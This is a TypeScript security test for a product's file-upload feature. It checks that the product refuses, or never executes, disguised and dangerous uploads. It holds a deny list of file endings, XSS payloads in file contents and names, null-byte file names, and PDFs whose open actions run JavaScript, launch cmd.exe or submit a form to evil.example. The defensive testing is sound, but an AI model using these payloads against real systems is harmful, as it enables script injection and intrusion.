import { randomBytes } from 'node:crypto';
import { hostileArchives, ordinaryDocument } from '../product/archive.js';
import { CANARY, openBrowser, watch } from '../product/browser.js';
import type { Client } from '../product/client.js';
import type { OwnProduct } from '../product/own-product.js';
import type { ProductPromise } from './promise.js';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);
const PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n');
const EXE = Buffer.concat([Buffer.from('4d5a90000300000004000000ffff', 'hex'), randomBytes(64)]);
const HTML = Buffer.from('<!doctype html><script>alert(1)</script>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const ZIP = Buffer.from('504b0304140000000800', 'hex');
const GIF = Buffer.from('GIF89a\u0001\u0000\u0001\u0000');
const BINARY = Buffer.concat([Buffer.from('text and then '), Buffer.alloc(8), randomBytes(32)]);

const FORBIDDEN_ENDINGS = 'exe html htm svg js mjs css php sh bat cmd ps1 jar zip gz tar rar 7z iso dmg msi dll so'
  .concat(' apk doc xls ppt docm xlsm pptm rtf odt xml json csv gif bmp tiff heic ico eps psd mp3 wav avi mov mkv webm')
  .split(' ');
const KINDS = ['png', 'jpg', 'webp', 'pdf', 'docx', 'xlsx', 'pptx', 'mp4'];
const CONTENTS = { EXE, HTML, SVG, BINARY, GIF };

interface Bad {
  name: string;
  content: Buffer;
}

/** Wrong endings, endings that lie about their content, names that try to be more than a name, and nothing at all. */
function badFiles(): Bad[] {
  const wrongEnding = FORBIDDEN_ENDINGS.map((ending) => ({ name: `evidence.${ending}`, content: PNG }));
  const lying = KINDS.flatMap((kind) =>
    Object.values(CONTENTS).map((content) => ({ name: `evidence.${kind}`, content })),
  );
  const swapped = [
    { name: 'picture.pdf', content: PNG },
    { name: 'paper.png', content: PDF },
    { name: 'paper.docx', content: PDF },
    { name: 'archive.pdf', content: ZIP },
    { name: 'program.txt', content: EXE },
    { name: 'picture.md', content: PNG },
    { name: 'binary.txt', content: BINARY },
    { name: 'paper.txt', content: PDF },
  ];
  const names = [
    'picture.png.exe',
    'picture.png ',
    'picture',
    '.png.',
    'picture.png\u0000.html',
    'picture.p\u0000ng',
    '..',
    '',
  ].map((name) => ({ name, content: EXE }));
  return [...wrongEnding, ...lying, ...swapped, ...names, { name: 'empty.txt', content: Buffer.alloc(0) }];
}

const SCRIPT = `<script>console.log('${CANARY}');alert(1)</script>`;

/** What may come in and yet carries something: it is kept, and must never run. */
function carriers(): Bad[] {
  const html = `<!doctype html><html><body>${SCRIPT}<img src=x onerror="alert(1)"></body></html>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
  const act = (catalog: string) =>
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
    );
  return [
    ...['txt', 'md'].flatMap((ending) =>
      [html, svg, SCRIPT, `[x](javascript:alert(1))`].map((text) => ({
        name: `words.${ending}`,
        content: Buffer.from(text),
      })),
    ),
    { name: 'picture.png', content: Buffer.concat([PNG, Buffer.from(html)]) },
    { name: '"><img src=x onerror=alert(1)>.png', content: PNG },
    { name: 'page.html.png', content: PNG },
    { name: 'open.pdf', content: act(`/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>`) },
    { name: 'launch.pdf', content: act('/OpenAction << /S /Launch /F (cmd.exe) >>') },
    { name: 'sends.pdf', content: act('/OpenAction << /S /SubmitForm /F (https://evil.example) >>') },
    { name: 'carries.pdf', content: act('/Names << /EmbeddedFiles << /Names [] >> >>') },
  ];
}

/** Nothing that is not what it says, or not on the list, becomes a file; what becomes one runs nowhere. */
export const uploadsRefused: ProductPromise = {
  name: 'hostile uploads are refused with a reason, or never run',
  target: '≥ 120 files and ≥ 20 archives, 0 scripts',
  async keep({ product, crowd }) {
    const { client, id } = await crowd.everyRole();
    const archives = hostileArchives();
    const bad = [...badFiles(), ...archives];
    const taken: string[] = [];
    for (const { name, content } of bad) {
      const began = performance.now();
      const reason = await refusalOf(client, name, content);
      if (!reason) taken.push(JSON.stringify(name));
      if (performance.now() - began > 10_000) taken.push(`${name} (slow)`);
    }
    const tooBig = await declare(client, 'film.mp4', 100 * 1024 * 1024 + 1);
    if (tooBig !== 413) taken.push(`101 MB (${tooBig})`);
    const [stored] = await product.sql<{ n: string }>('SELECT count(*) AS n FROM stored_file WHERE owner_id = $1', [
      id,
    ]);
    const carried = carriers();
    const opened = await openEach(product, client, carried);
    const n = bad.length + 1 + carried.length;
    const good = await refusalOf(client, 'report.docx', ordinaryDocument());
    return {
      figure: n - taken.length - opened.runs.length,
      n,
      ok: taken.length + opened.runs.length === 0 && Number(stored?.n) === 0 && n >= 120 && archives.length >= 20,
      control: `${good === null ? 'an ordinary document was taken' : good}; the same page without our headers ran ${opened.control}`,
      controlHeld: good === null && opened.control > 0,
      ...(taken.length + opened.runs.length > 0 && {
        why: `taken: ${taken.join(', ')}; ran: ${opened.runs.join(', ')}`,
      }),
    };
  },
};

/** Opens whatever came in at its address, as somebody would who is sent a link to it. */
async function openEach(
  product: OwnProduct,
  client: Client,
  carried: Bad[],
): Promise<{ runs: string[]; control: number }> {
  const browser = await openBrowser();
  try {
    const [name = '', value = ''] = client.cookie.split(/=(.*)/s);
    const context = await browser.newContext({ baseURL: product.baseUrl });
    await context.addCookies([{ name, value, url: product.baseUrl }]);
    // A page of the same address without any policy of its own: only what a file's answer carries protects here.
    let frame = '';
    await context.route('**/framed', (route) => route.fulfill({ contentType: 'text/html', body: frame }));
    const page = await context.newPage();
    const { runs } = watch(page);
    for (const { name: fileName, content } of carried) {
      const file = await client.upload(fileName, content, 'evidence');
      for (const path of [`/files/${file}`, `/files/${file}/preview/1`]) {
        // A download ends the navigation; a page would have come up.
        await page.goto(path, { timeout: 5_000 }).catch(() => undefined);
        frame = `<iframe src="${path}"></iframe><object data="${path}"></object><embed src="${path}"><img src="${path}">`;
        await page.goto('/framed', { timeout: 5_000 }).catch(() => undefined);
      }
    }
    await page.waitForTimeout(500);
    const bare = await context.newPage();
    const seen = watch(bare);
    await bare.setContent(SCRIPT);
    await bare.waitForTimeout(300);
    return { runs, control: seen.runs.length };
  } finally {
    await browser.close();
  }
}

/** The reason why it was refused; null when it came in. A refusal without words is no refusal we promise. */
async function refusalOf(client: Client, name: string, content: Buffer): Promise<string | null> {
  try {
    await client.upload(name, content, 'evidence');
    return null;
  } catch (error) {
    const response = (error as { originalResponse?: { getStatus(): number; getBody(): string } }).originalResponse;
    const status = response?.getStatus() ?? 0;
    const body = response?.getBody().trim() ?? '';
    return [400, 413, 415].includes(status) && body.length > 10 ? body : null;
  }
}

async function declare(client: Client, name: string, bytes: number): Promise<number> {
  const b64 = (text: string) => Buffer.from(text).toString('base64');
  const { status } = await client.fetch('/uploads', {
    method: 'POST',
    headers: {
      'tus-resumable': '1.0.0',
      'upload-length': String(bytes),
      'upload-metadata': `filename ${b64(name)},purpose ${b64('evidence')}`,
    },
  });
  return status;
}
